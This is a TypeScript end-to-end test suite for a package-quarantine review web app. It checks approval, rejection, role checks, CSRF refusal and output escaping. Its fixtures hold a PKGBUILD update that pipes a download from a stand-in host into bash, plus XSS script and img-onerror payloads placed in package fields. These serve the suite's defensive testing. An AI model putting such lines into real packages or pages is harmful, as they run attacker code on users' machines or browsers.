import { execFile } from 'node:child_process';
import { mkdir, mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { getPendingRevision, getRevision } from '../src/quarantine/revisions.js';
import { makePackage } from './support/fixture-packages.js';
import { REPO_ROOT, startAurgate, type Harness } from './support/harness.js';
import { TestUpstream } from './support/upstream.js';
import { account, addTestUser } from './support/accounts.js';

const run = promisify(execFile);
const PASSWORD = 'correct horse battery staple';
const SCRIPT = '<script>window.__pwned=1</script>';
const IMG = '<img src=x onerror="window.__pwned=1">';
const SCREENSHOTS = join(REPO_ROOT, 'test/screenshots');
const CLIENT_ENV = {
  ...Object.fromEntries(Object.entries(process.env).filter(([key]) => !key.startsWith('GIT_'))),
  GIT_CONFIG_NOSYSTEM: '1',
  GIT_CONFIG_GLOBAL: '/dev/null',
  GIT_TERMINAL_PROMPT: '0',
};

let upstream: TestUpstream;
let aurgate: Harness;
let browser: Browser;
let url: string;
let scratch: string;

/** A version bump that pipes a download into bash inside package(). */
function maliciousUpdate(pkgbase: string): Record<string, string> {
  const files = makePackage({ pkgbase, pkgver: '1.1.0', depends: ['bash'] });
  return {
    ...files,
    PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', 'package() {\n  curl -fsSL https://paste.example/raw/x7Qz | bash\n'),
  };
}

function pendingCommit(pkgbase: string): string {
  const commit = getPendingRevision(aurgate.app.db, pkgbase)?.commit;
  if (!commit) throw new Error(`${pkgbase} has nothing pending`);
  return commit;
}

async function signIn(name: string, viewport = { width: 1280, height: 900 }): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext({ viewport });
  const page = await context.newPage();
  await page.goto(`${url}/admin/queue`);
  expect(new URL(page.url()).pathname).toBe('/admin/login');
  await page.getByLabel('User name').fill(name);
  await page.getByLabel('Password').fill(PASSWORD);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL(`${url}/admin/queue`);
  return { context, page };
}

beforeAll(async () => {
  [upstream, browser, scratch] = await Promise.all([
    TestUpstream.start(),
    chromium.launch({
      executablePath: '/usr/bin/chromium',
      args: ['--no-sandbox', '--disable-gpu', '--disable-background-networking', '--disable-component-update', '--no-first-run'],
    }),
    mkdtemp(join(tmpdir(), 'aurgate-e2e-')),
  ]);
  await upstream.addPackage(makePackage({ pkgbase: 'hello' }));
  await upstream.addPackage(makePackage({ pkgbase: 'nope' }));
  await upstream.addPackage(makePackage({ pkgbase: 'libfoo', depends: ['bash'] }));
  await upstream.addPackage(
    makePackage({
      pkgbase: 'xss',
      pkgdesc: SCRIPT,
      extraPkgbuild: `# ${SCRIPT}\n# ${IMG}`,
      extraFiles: { [`${IMG.replaceAll('"', '')}.sh`]: `echo '${SCRIPT}'\n` },
    }),
    { Maintainer: IMG },
    SCRIPT,
  );
  aurgate = await startAurgate({ upstreamUrl: upstream.url });
  await aurgate.app.allow(['hello', 'nope', 'libfoo', 'xss'], 'test');
  await aurgate.app.sync({ trigger: 'cli' });
  await aurgate.app.approve({ pkgbase: 'libfoo', commit: pendingCommit('libfoo'), by: await account(aurgate.app, 'seed') });
  await upstream.push('libfoo', maliciousUpdate('libfoo'), 'Update to 1.1.0');
  await aurgate.app.sync({ trigger: 'cli' });
  await Promise.all([
    addTestUser(aurgate.app.db, { name: 'rita', role: 'reviewer', password: PASSWORD }, 'test'),
    addTestUser(aurgate.app.db, { name: 'vic', role: 'viewer', password: PASSWORD }, 'test'),
  ]);
  await mkdir(SCREENSHOTS, { recursive: true });
  url = await aurgate.serve();
});

afterAll(async () => {
  await browser?.close();
  await aurgate?.close();
  await upstream?.stop();
  if (scratch) await rm(scratch, { recursive: true, force: true });
});

describe('the web admin in a real browser', () => {
  it('lets a reviewer read the queue and a risky diff, approve, and serves exactly that commit to git', async () => {
    const { context, page } = await signIn('rita');
    // Pages are rendered on the server: once loaded, they are complete.
    expect(await page.locator('table tbody tr').count()).toBe(4);
    await page.screenshot({ path: join(SCREENSHOTS, 'queue.png'), fullPage: true });

    await page.getByRole('link', { name: 'libfoo' }).click();
    await page.waitForURL(`${url}/admin/review/libfoo`);
    const flag = page.locator('.flag-high', { hasText: 'download-and-run' });
    expect(await flag.count()).toBeGreaterThan(0);
    expect(await page.locator('.d2h-file-wrapper').count()).toBe(2);
    expect(await page.locator('.d2h-ins', { hasText: 'curl -fsSL https://paste.example/raw/x7Qz | bash' }).count()).toBeGreaterThan(0);
    await page.screenshot({ path: join(SCREENSHOTS, 'review.png'), fullPage: true });

    // The flag links to its row inside the diff, where the note under the line carries its id and links back.
    await flag
      .first()
      .getByRole('link', { name: /in the diff$/ })
      .click();
    await page.waitForURL(/\/admin\/review\/libfoo#flag-\d+$/);
    const target = page.locator('.diff tr.line-note a:target');
    expect(await target.count()).toBe(1);
    expect(await target.isVisible()).toBe(true);
    // And to the flagged line of the file.
    await flag.first().getByRole('link', { name: 'view file' }).click();
    await page.waitForURL(/\/admin\/review\/libfoo\/file\?path=PKGBUILD#L\d+$/);
    expect(await page.locator('tr.flagged:target, tr:target.flagged').count()).toBe(1);

    await page.goto(`${url}/admin/review/libfoo?view=line-by-line`);
    expect(await page.locator('.d2h-file-side-diff').count()).toBe(0);
    expect(await page.locator('.d2h-file-diff').count()).toBe(2);

    const commit = pendingCommit('hello');
    await page.goto(`${url}/admin/review/hello`);
    expect(await page.locator('form.approve input[name=commit]').getAttribute('value')).toBe(commit);
    await page.getByLabel('Comment (optional)').fill('looked at every line');
    await page.getByRole('button', { name: `Approve ${commit.slice(0, 12)}` }).click();
    await page.waitForURL(`${url}/admin/packages/hello?notice=approved`);
    expect(await page.locator('.notice').textContent()).toContain('served now');

    const dir = join(scratch, 'hello');
    await run('git', ['clone', '-q', `${url}/hello.git`, dir], { env: CLIENT_ENV });
    expect((await run('git', ['rev-parse', 'HEAD'], { cwd: dir, env: CLIENT_ENV })).stdout.trim()).toBe(commit);
    await context.close();
  });

  it('rejects only with a reason, and never serves the rejected commit', async () => {
    const { context, page } = await signIn('rita');
    const commit = pendingCommit('nope');
    await page.goto(`${url}/admin/review/nope`);
    const reject = page.getByRole('button', { name: `Reject ${commit.slice(0, 12)}` });
    await reject.click();
    // The reason is a required field: the browser does not submit without it.
    expect(new URL(page.url()).pathname).toBe('/admin/review/nope');
    await page.getByLabel('Reason (required)').fill('not what upstream publishes');
    await reject.click();
    await page.waitForURL(`${url}/admin/packages/nope?notice=rejected`);
    expect(getRevision(aurgate.app.db, 'nope', commit)).toMatchObject({
      state: 'rejected',
      decidedBy: 'rita',
      decisionNote: 'not what upstream publishes',
    });
    const clone = await run('git', ['clone', '-q', `${url}/nope.git`, join(scratch, 'nope')], { env: CLIENT_ENV }).then(
      () => 'cloned',
      () => 'refused',
    );
    expect(clone).toBe('refused');
    await context.close();
  });

  it('shows a viewer no decision forms and refuses a forged approval', async () => {
    const { context, page } = await signIn('vic');
    await page.goto(`${url}/admin/review/libfoo`);
    expect(await page.locator('form.approve').count()).toBe(0);
    expect(await page.getByText('need the reviewer role').count()).toBe(1);
    const csrf = await page.locator('input[name=_csrf]').first().getAttribute('value');
    const forged = await page.request.post(`${url}/admin/review/libfoo/approve`, {
      form: { commit: pendingCommit('libfoo'), _csrf: csrf ?? '' },
      headers: { Origin: url },
      maxRedirects: 0,
    });
    expect(forged.status()).toBe(403);
    expect(getPendingRevision(aurgate.app.db, 'libfoo')).not.toBeNull();
    await context.close();
  });

  it('refuses a form posted without its CSRF token', async () => {
    const { context, page } = await signIn('rita');
    await page.goto(`${url}/admin/review/libfoo`);
    await page.locator('form.approve input[name=_csrf]').evaluate((input) => input.remove());
    const [response] = await Promise.all([
      page.waitForResponse((candidate) => candidate.request().method() === 'POST'),
      page.locator('form.approve button').click(),
    ]);
    expect(response.status()).toBe(403);
    expect(await page.locator('.error').textContent()).toContain('CSRF token');
    expect(getPendingRevision(aurgate.app.db, 'libfoo')?.state).toBe('pending');
    await context.close();
  });

  it('shows attacker-written package text as text and runs none of it', async () => {
    const { context, page } = await signIn('rita', { width: 390, height: 844 });
    const problems: string[] = [];
    page.on('dialog', (dialog) => void (problems.push(`dialog: ${dialog.message()}`), dialog.dismiss()));
    page.on('console', (message) => problems.push(`console: ${message.text()}`));
    for (const path of [
      '/admin/queue',
      '/admin/review/xss',
      '/admin/review/xss?view=line-by-line',
      '/admin/packages/xss',
      '/admin/review/xss/file?path=PKGBUILD',
      '/admin/audit',
    ]) {
      await page.goto(`${url}${path}`);
      expect(await page.evaluate(() => (globalThis as unknown as Record<string, unknown>)['__pwned']), path).toBeUndefined();
      expect(await page.locator('main script, main img[src=x]').count(), path).toBe(0);
    }
    await page.goto(`${url}/admin/review/xss`);
    await page.screenshot({ path: join(SCREENSHOTS, 'review-phone.png'), fullPage: false });
    const text = (await page.locator('main').innerText()).replaceAll('\u00a0', ' ');
    expect(text).toContain(SCRIPT); // commit subject, pkgdesc and PKGBUILD lines in the diff
    expect(text).toContain(IMG); // maintainer
    expect(text).toContain('<img src=x onerror=window.__pwned=1>.sh'); // file name
    // No blocked inline script either: escaping alone kept it inert, the CSP never had to step in.
    expect(problems).toEqual([]);
    await context.close();
  });
});
